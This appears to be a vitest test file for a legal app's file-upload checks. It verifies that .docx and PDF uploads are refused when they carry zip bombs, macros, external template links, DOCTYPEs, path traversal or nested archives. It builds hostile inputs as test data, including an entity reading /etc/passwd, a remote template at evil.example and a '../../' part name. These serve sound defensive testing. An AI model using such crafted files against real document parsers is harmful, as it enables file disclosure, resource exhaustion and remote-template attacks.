import PizZip from 'pizzip';
import { afterEach, describe, expect, it } from 'vitest';
import { inspectDocxUpload, inspectUpload } from '../server/docx/inspect-upload.ts';
import { HOSTILE_FILES, docxWith, pdfWith, ratioBomb } from './helpers/hostile-files.ts';
import { AppError } from '../server/errors.ts';
import { makeTestApp } from './helpers/test-app.ts';

const CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const DOC = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>';

function docx(parts: Record<string, string | Buffer> = {}): Buffer {
  const zip = new PizZip();
  zip.file('[Content_Types].xml', CONTENT_TYPES);
  zip.file('word/document.xml', DOC);
  for (const [name, content] of Object.entries(parts)) zip.file(name, content);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** Rewrites the declared uncompressed size of every large entry (local header and directory) to `size`. */
function lieAboutSizes(bytes: Buffer, size: number): Buffer {
  const out = Buffer.from(bytes);
  for (let i = 0; i < out.length - 30; i++) {
    if (out.readUInt32LE(i) === 0x04034b50 && out.readUInt32LE(i + 22) > 1_000_000) out.writeUInt32LE(size, i + 22);
    if (out.readUInt32LE(i) === 0x02014b50 && out.readUInt32LE(i + 24) > 1_000_000) out.writeUInt32LE(size, i + 24);
  }
  return out;
}

const reasonOf = async (bytes: Buffer) => {
  try {
    await inspectDocxUpload(bytes);
    return 'accepted';
  } catch (error) {
    return (error as AppError).details?.reason;
  }
};

describe('.docx upload inspection (before decompressing)', () => {
  it('accepts a plain document', async () => expect(await reasonOf(docx())).toBe('accepted'));
  it('refuses an honest zip bomb from its declared size, without inflating it', async () => {
    const bomb = docx({ 'word/bomb.xml': Buffer.alloc(100 * 1024 * 1024, 0x20) });
    expect(bomb.length).toBeLessThan(200 * 1024);
    const before = process.memoryUsage().rss;
    expect(await reasonOf(bomb)).toBe('zip_bomb');
    expect(process.memoryUsage().rss - before).toBeLessThan(50 * 1024 * 1024);
  });
  it('refuses a lying-size bomb when inflation passes the declared size', async () => {
    const bomb = lieAboutSizes(docx({ 'word/bomb.xml': Buffer.alloc(20 * 1024 * 1024, 0x20) }), 1000);
    expect(await reasonOf(bomb)).toBe('zip_bomb');
  });
  it('refuses macro-enabled documents', async () => {
    expect(await reasonOf(docx({ '[Content_Types].xml': CONTENT_TYPES.replace('document.main+xml', 'document.macroEnabled.main+xml') }))).toBe('macros_not_allowed');
    expect(await reasonOf(docx({ 'word/vbaProject.bin': Buffer.from([1, 2, 3]) }))).toBe('macros_not_allowed');
  });
  it('refuses external relationships other than hyperlinks', async () => {
    const rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    expect(await reasonOf(docx({ 'word/_rels/settings.xml.rels': rels }))).toBe('external_relationship');
    const link = rels.replace('attachedTemplate', 'hyperlink');
    expect(await reasonOf(docx({ 'word/_rels/document.xml.rels': link }))).toBe('accepted');
  });
  it('refuses a DOCTYPE in any part', async () => expect(await reasonOf(docx({ 'word/document.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + DOC }))).toBe('dtd_not_allowed'));
  it('refuses a truncated zip and a non-zip', async () => {
    const whole = docx();
    expect(await reasonOf(whole.subarray(0, whole.length - 30))).toBe('invalid_docx');
    expect(await reasonOf(Buffer.from('%PDF-1.7 not a docx'))).toBe('invalid_docx');
  });
  it('refuses unsafe part names and nested archives', async () => {
    expect(await reasonOf(docx({ '../../evil.xml': '<a/>' }))).toBe('unsafe_path');
    expect(await reasonOf(docx({ 'word/inner.zip': Buffer.from('PK') }))).toBe('nested_archive');
  });
  it('refuses more than 1,000 entries', async () => {
    const parts = Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`word/p${i}.xml`, '<a/>']));
    expect(await reasonOf(docx(parts))).toBe('too_many_entries');
  });
});

let t: Awaited<ReturnType<typeof makeTestApp>>;
afterEach(async () => t?.close());

describe('upload routes', () => {
  const form = (bytes: Buffer, name = 'x.docx') => {
    const fd = new FormData();
    fd.append('file', new Blob([new Uint8Array(bytes)]), name);
    return fd;
  };
  it('identify: a file that matches nothing says so; a bad file gets 422 with a reason', async () => {
    t = await makeTestApp();
    const cookie = await t.login('attorney');
    const none = await t.request('/api/documents/identify', { method: 'POST', cookie, body: form(docx()) });
    expect(none.status).toBe(200);
    expect((await none.json()).matches).toEqual([]);
    const bad = await t.request('/api/documents/identify', { method: 'POST', cookie, body: form(Buffer.from('hello')) });
    expect(bad.status).toBe(422);
    expect((await bad.json()).error.details.reason).toBe('unsupported_file_type');
  });
  it('identify refuses JSON and oversized uploads', async () => {
    t = await makeTestApp();
    const cookie = await t.login('attorney');
    expect((await t.request('/api/documents/identify', { method: 'POST', cookie, json: { file: 'x' } })).status).toBe(415);
    const huge = await t.request('/api/documents/identify', { method: 'POST', cookie, body: form(Buffer.alloc(11 * 1024 * 1024)) });
    expect(huge.status).toBe(413);
  });
});

describe('the probe’s bypasses (issue 19, defect 4)', () => {
  const reasonOfUpload = async (bytes: Buffer) => {
    try {
      await inspectUpload(bytes);
      return 'accepted';
    } catch (error) {
      return (error as AppError).details?.reason;
    }
  };
  it('accepts a clean .docx, a UTF-16 part, an upper-case .RELS hyperlink and a clean PDF', async () => {
    expect(await reasonOfUpload(docxWith())).toBe('accepted');
    expect(await reasonOfUpload(docxWith({ 'word/extra.xml': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>', 'utf16le')]) }))).toBe('accepted');
    expect(await reasonOfUpload(docxWith({ 'WORD/_RELS/DOCUMENT.XML.RELS': '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.test" TargetMode="External"/></Relationships>' }))).toBe('accepted');
    expect(await reasonOfUpload(pdfWith())).toBe('accepted');
  });
  for (const file of HOSTILE_FILES) it(`refuses ${file.name}`, async () => expect(await reasonOfUpload(file.bytes())).toBe(file.reason));
  it('refuses the ~50 MB bomb without inflating it', async () => {
    const bomb = ratioBomb();
    expect(bomb.length).toBeLessThan(200 * 1024);
    const started = performance.now();
    expect(await reasonOfUpload(bomb)).toBe('zip_bomb');
    expect(performance.now() - started).toBeLessThan(50);
  });
});
